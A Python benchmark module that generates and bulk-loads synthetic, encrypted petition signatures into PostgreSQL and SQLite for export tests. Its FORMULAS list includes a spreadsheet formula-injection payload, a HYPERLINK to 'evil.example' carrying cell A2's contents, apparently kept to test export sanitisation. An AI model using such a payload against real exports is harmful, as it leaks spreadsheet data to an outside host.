"""Signatures for the export benchmark: generated once per seed, loaded in bulk.

The same seed gives the same rows on both databases, so their exports compare.
Rows are stored as the app stores them: name, email and comment encrypted,
the address found by its keyed hash, both by the app's own functions
(campaign/encryption.py) under the keys the benchmark gives the app.
"""

import hashlib
import random
import sqlite3
import unicodedata
from collections.abc import Iterator
from datetime import datetime, timedelta

import psycopg
from flask import Flask

from campaign.encryption import domain_hash, email_hash, key_ring


def words(text: str) -> tuple[str, ...]:
    """The space-separated words of a long literal."""
    return tuple(text.split())


FIRST = words(
    "Fatemeh Nasrin Zahra Maryam Aisha Shabnam Laila Parwana Homa Soraya "
    "Emma Olivia Sophie Chloé Zoë Léa Inès Manon Amélie Noor Sara Hannah "
    "Björn Jürgen José João Łukasz Søren Ahmad Omar Daniel James Thomas "
    "Mohammed Ali Reza Luca Marco Ana María Lucía Yasmin Priya Mei Yuki"
)
LAST = words(
    "Ahmadi Karimi Hosseini Rahimi Sultani Haidari Noori Popal Wardak Smith "
    "Jones Williams Brown Taylor O'Brien Murphy Müller Schäfer Weiß García "
    "Martínez López Fernández Rossi Bianchi Dubois Lefèvre Nguyen Kowalski "
    "Nowak Andersson Johansson Jensen Kaya Yılmaz Khan Patel Singh Cohen "
    "Levi Tanaka Sato Silva Santos Costa"
)
DOMAINS = words(
    "gmail.com gmail.com gmail.com outlook.com hotmail.co.uk yahoo.com "
    "proton.me icloud.com web.de gmx.de orange.fr posteo.de example.org"
)
COUNTRIES = words(
    "GB GB GB GB US US US DE DE DE FR FR AF AF CA AU NL SE IE ES IT NO DK "
    "BE CH AT PL PT NZ IN PK IR TR JP BR"
)
COMMENTS = (
    "Women's rights are human rights, everywhere and for everyone.",
    "No government should be recognised while it bans girls from school.",
    'As a teacher I cannot stay silent: "education is a right", not a gift.',
    "For my mother, my sisters and every Afghan girl denied a classroom.",
    "Gender apartheid must be named, and the world must refuse it.",
    "I signed because silence is complicity. Please share this petition!",
    "Stand with Afghan women – recognition would reward their oppressors.",
    "My grandmother studied in Kabul in 1970. Her granddaughters cannot.",
    "Für die Frauen Afghanistans: keine Anerkennung der Taliban, niemals.",
    "Pour les Afghanes, privées d'école, de travail et de parc depuis 2021.",
    "Two lines, because one is not enough:\nrefuse recognition, fund schools.",
    "Every day of recognition is another day of erasure for half a nation.",
)
# Comments an attacker (or an enthusiast) starts with a formula character.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A2,"Click here for the details")',
    "=1+1 is two, and girls should be in school to learn it. Signed!",
    "+1 to everything in this petition; the world must not look away.",
    "-- never recognise a regime that erases women from public life --",
    "@everyone please share this, we need many more signatures, today",
)
STATES = ("validated",) * 90 + ("pending",) * 6 + ("invalidated",) * 3
STATES += ("fraudulent",)
COLUMNS = words(
    "petition_id name email email_hash domain_key country comment join_list "
    "public state validated_at locale ip_key notified_at created_at "
    "updated_at"
)
START = datetime(2025, 3, 1)  # naive UTC, as SQLite keeps it
SPAN_US = 30 * 24 * 3600 * 10**6
SPECIAL = str.maketrans({"ß": "ss", "ł": "l", "ø": "o", "ı": "i", "'": ""})


def ascii_name(text: str) -> str:
    """An email-safe, lower-case form of a name part."""
    folded = unicodedata.normalize("NFKD", text.lower().translate(SPECIAL))
    return folded.encode("ascii", "ignore").decode()


ASCII = {part: ascii_name(part) for part in FIRST + LAST}


def stamp(moment: datetime) -> str:
    """A UTC timestamp as SQLAlchemy stores it in SQLite (PostgreSQL reads it too)."""
    return moment.isoformat(" ", "microseconds")


class Sealer:
    """Encrypts and hashes as the app does, under the keys the app is given."""

    def __init__(self, keys: dict[str, str]):
        self.app = Flask(__name__)
        self.app.config.update(keys)

    def __enter__(self) -> "Sealer":
        self.context = self.app.app_context()
        self.context.push()
        self.ring = key_ring()
        return self

    def __exit__(self, *exc) -> None:
        self.context.pop()

    def seal(self, value: str | None, purpose: bytes) -> bytes | None:
        """``value`` as the app stores it in the column named ``purpose``."""
        return None if value is None else self.ring.encrypt(value, purpose)


def people(count: int, seed: int = 20250301) -> Iterator[tuple[str, str, str | None]]:
    """The plaintext name, email and comment of each generated row, in order."""
    rng = random.Random(seed)
    for index in range(count):
        first, last = rng.choice(FIRST), rng.choice(LAST)
        email = f"{ASCII[first]}.{ASCII[last]}{index}@{rng.choice(DOMAINS)}"
        comment = None
        if rng.random() < 1 / 3:
            pool = FORMULAS if rng.random() < 0.03 else COMMENTS
            comment = rng.choice(pool)
        yield f"{first} {last}", email, comment


def signatures(
    petition_id: int, count: int, sealer: Sealer, seed: int = 20250301
) -> Iterator[tuple]:
    """``count`` realistic signature rows, in COLUMNS order, oldest first."""
    rng = random.Random(seed + 1)
    step = SPAN_US // count
    seal = sealer.seal
    for index, (name, email, comment) in enumerate(people(count, seed)):
        state = rng.choice(STATES)
        created = START + timedelta(microseconds=step * index + rng.random() * 5e6)
        validated = None
        if state != "pending":
            validated = stamp(created + timedelta(seconds=30 + rng.random() * 3600))
        key = hashlib.blake2b(index.to_bytes(8, "big"), digest_size=32).hexdigest()
        yield (
            petition_id,
            seal(name, b"signature.name"),
            seal(email, b"signature.email"),
            email_hash(email),
            domain_hash(email),
            rng.choice(COUNTRIES),
            seal(comment, b"signature.comment"),
            rng.random() < 0.4,
            rng.random() < 0.6,
            state,
            validated,
            "en",
            key,
            stamp(created),
            stamp(created),
            validated or stamp(created),
        )


def petition_id_pg(url: str, slug: str) -> int:
    """The seeded petition's id in PostgreSQL."""
    with psycopg.connect(url) as connection:
        row = connection.execute(
            "SELECT id FROM petition WHERE slug = %s", (slug,)
        ).fetchone()
    return row[0]


def petition_id_sqlite(path: str, slug: str) -> int:
    """The seeded petition's id in SQLite."""
    with sqlite3.connect(path) as connection:
        row = connection.execute(
            "SELECT id FROM petition WHERE slug = ?", (slug,)
        ).fetchone()
    connection.close()
    return row[0]


def load_pg(url: str, slug: str, count: int, keys: dict[str, str]) -> None:
    """COPY the rows in, then VACUUM ANALYZE so every read starts settled."""
    petition = petition_id_pg(url, slug)
    with psycopg.connect(url) as connection, Sealer(keys) as sealer:
        connection.execute("SET TIME ZONE 'UTC'")
        columns = ", ".join(COLUMNS)
        with connection.cursor().copy(f"COPY signature ({columns}) FROM STDIN") as copy:
            for row in signatures(petition, count, sealer):
                copy.write_row(row)
    with psycopg.connect(url, autocommit=True) as connection:
        connection.execute("VACUUM (ANALYZE) signature")


def load_sqlite(path: str, slug: str, count: int, keys: dict[str, str]) -> None:
    """Insert the rows in one transaction; no ANALYZE, as the app never runs it."""
    petition = petition_id_sqlite(path, slug)
    connection = sqlite3.connect(path)
    try:
        connection.execute("PRAGMA synchronous = OFF")
        marks = ", ".join("?" * len(COLUMNS))
        with connection, Sealer(keys) as sealer:
            connection.executemany(
                f"INSERT INTO signature ({', '.join(COLUMNS)}) VALUES ({marks})",
                signatures(petition, count, sealer),
            )
    finally:
        connection.close()
